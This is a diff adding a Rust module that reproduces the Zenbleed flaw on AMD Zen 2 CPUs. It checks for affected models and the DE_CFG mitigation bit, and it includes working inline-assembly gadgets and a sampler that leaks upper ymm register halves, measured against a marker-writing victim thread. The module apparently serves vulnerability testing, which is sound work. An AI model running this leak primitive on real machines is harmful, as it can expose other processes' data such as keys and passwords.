@@ -0,0 +1,182 @@
+//! Zenbleed, on AMD Zen 2. `vzeroupper` marks the upper halves of the `ymm`
+//! registers as zero and frees the physical registers behind them. When it
+//! runs on a mispredicted path, the rollback restores the marks but not the
+//! registers, which by then may have been handed to other instructions. The
+//! upper half then reads back whatever those wrote, architecturally and
+//! with no side channel: vector data of this thread, of the hyperthread
+//! sibling, or of whatever ran on the core before.
+//!
+//! Every attempt here sets up the upper half of `ymm1` as zero and skips a
+//! `vzeroupper` behind a branch on a flushed flag, which the branch
+//! predictor has been trained to fall through. A thread on the sibling keeps
+//! `MARKER` in its vector registers, so leaks of it can be told apart from
+//! noise. Microcode with the fix, or the chicken bit in `DE_CFG` that
+//! kernels set when it's missing, stops the leak.
+
+use std::io;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::thread::{self, JoinHandle};
+
+use cache::flush;
+use cpu::{self, CpuFeatures, CpuModel, Vendor};
+use sysreg::SystemRegister;
+
+/// The family 0x17 model ranges AMD lists as Zen 2, inclusive.
+pub const AFFECTED_MODELS: [(u32, u32); 4] =
+    [(0x30, 0x4f), (0x60, 0x7f), (0x90, 0x91), (0xa0, 0xaf)];
+
+/// What the victim keeps in its vector registers, 8 times over.
+pub const MARKER: &'static [u8; 4] = b"ZEN2";
+
+// fall-through runs of the branch before each attempt, to keep it predicted
+// not taken
+const TRAINING_RUNS: usize = 4;
+
+// DE_CFG, and the bit in it that turns off the optimization behind the leak
+const DE_CFG: u32 = 0xc001_1029;
+const DE_CFG_ZENBLEED: u64 = 1 << 9;
+
+/// Whether `model` is a Zen 2 part.
+pub fn affected(model: &CpuModel) -> bool {
+    model.vendor == Vendor::Amd
+        && model.family == 0x17
+        && AFFECTED_MODELS
+            .iter()
+            .any(|&(first, last)| model.model >= first && model.model <= last)
+}
+
+/// Whether the chicken bit is set on `core`, read through the msr driver,
+/// which needs root. None if it can't be read.
+pub fn chicken_bit(core: usize) -> Option<bool> {
+    SystemRegister::Msr(DE_CFG)
+        .known_value(core)
+        .map(|value| value & DE_CFG_ZENBLEED != 0)
+}
+
+// one run of the gadget. with skip set the branch is taken, and vzeroupper
+// only runs on a misprediction. stores the upper half of ymm1 at out, which
+// has to be zero
+#[inline(never)]
+unsafe fn run_gadget(skip: *const u64, out: *mut u8) {
+    asm!("
+        vpxor %xmm0, %xmm0, %xmm0
+        vcvtsi2sd %rcx, %xmm0, %xmm0
+        vmovdqa %ymm0, %ymm1
+        movq ($0), %rax
+        test %rax, %rax
+        jnz 1f
+        vzeroupper
+    1:
+        vextracti128 $$1, %ymm1, ($1)
+        "
+        :
+        : "r" (skip), "r" (out), "{rcx}" (skip as u64)
+        : "rax", "ymm0", "ymm1", "memory"
+        : "volatile");
+}
+
+// keeps MARKER going through the vector registers until stop is set
+fn run_victim(stop: &AtomicBool) {
+    let mut line = [0u8; 32];
+    for chunk in line.chunks_mut(MARKER.len()) {
+        chunk.copy_from_slice(MARKER)
+    }
+    while !stop.load(Ordering::Relaxed) {
+        unsafe {
+            asm!("
+                vmovdqu ($0), %ymm2
+                vmovdqu %ymm2, %ymm3
+                vpor %ymm2, %ymm3, %ymm4
+                "
+                :: "r" (line.as_ptr()) : "ymm2", "ymm3", "ymm4" : "volatile");
+        }
+    }
+}
+
+/// What a run of attempts brought back.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Samples {
+    /// Attempts made.
+    pub attempts: usize,
+    /// Every upper half that wasn't zero, in the order they leaked.
+    pub leaked: Vec<[u8; 16]>,
+}
+
+impl Samples {
+    /// How many of the leaked halves hold `MARKER`, so came from the
+    /// victim.
+    pub fn marked(&self) -> usize {
+        self.leaked
+            .iter()
+            .filter(|half| half.windows(MARKER.len()).any(|window| window == &MARKER[..]))
+            .count()
+    }
+}
+
+/// Makes attempts at leaking the register file, with a victim on another
+/// core to leak from.
+pub struct RegisterFileSampler {
+    stop: Arc<AtomicBool>,
+    victim: Option<JoinHandle<()>>,
+    // the flag the gadget branches on. boxed, away from the state the
+    // attempt loop uses, so that flushing it leaves that cached
+    skip: Box<u64>,
+}
+
+impl RegisterFileSampler {
+    /// Starts a victim pinned to `victim_core`, which should be a hyperthread
+    /// sibling of the calling thread, or none with None. Fails without AVX2,
+    /// which the gadget uses.
+    pub fn new(victim_core: Option<usize>) -> io::Result<RegisterFileSampler> {
+        if !CpuFeatures::detect().avx2 {
+            return Err(io::Error::new(io::ErrorKind::Other, "this CPU has no AVX2"));
+        }
+        let stop = Arc::new(AtomicBool::new(false));
+        let victim = victim_core.map(|core| {
+            let stop = stop.clone();
+            thread::spawn(move || {
+                if cpu::pin_to_core(core).is_ok() {
+                    run_victim(&stop)
+                }
+            })
+        });
+        Ok(RegisterFileSampler {
+            stop,
+            victim,
+            skip: Box::new(0),
+        })
+    }
+
+    /// Makes `attempts` attempts, each after training the branch, and
+    /// collects whatever leaked.
+    pub fn sample(&mut self, attempts: usize) -> Samples {
+        let skip = &mut *self.skip as *mut u64;
+        let mut half = [0u8; 16];
+        let mut leaked = Vec::new();
+        for _ in 0..attempts {
+            unsafe {
+                *skip = 0;
+                for _ in 0..TRAINING_RUNS {
+                    run_gadget(skip, half.as_mut_ptr());
+                }
+                *skip = 1;
+                flush(skip as *const u8);
+                run_gadget(skip, half.as_mut_ptr());
+            }
+            if half.iter().any(|&byte| byte != 0) {
+                leaked.push(half)
+            }
+        }
+        Samples { attempts, leaked }
+    }
+}
+
+impl Drop for RegisterFileSampler {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(victim) = self.victim.take() {
+            let _ = victim.join();
+        }
+    }
+}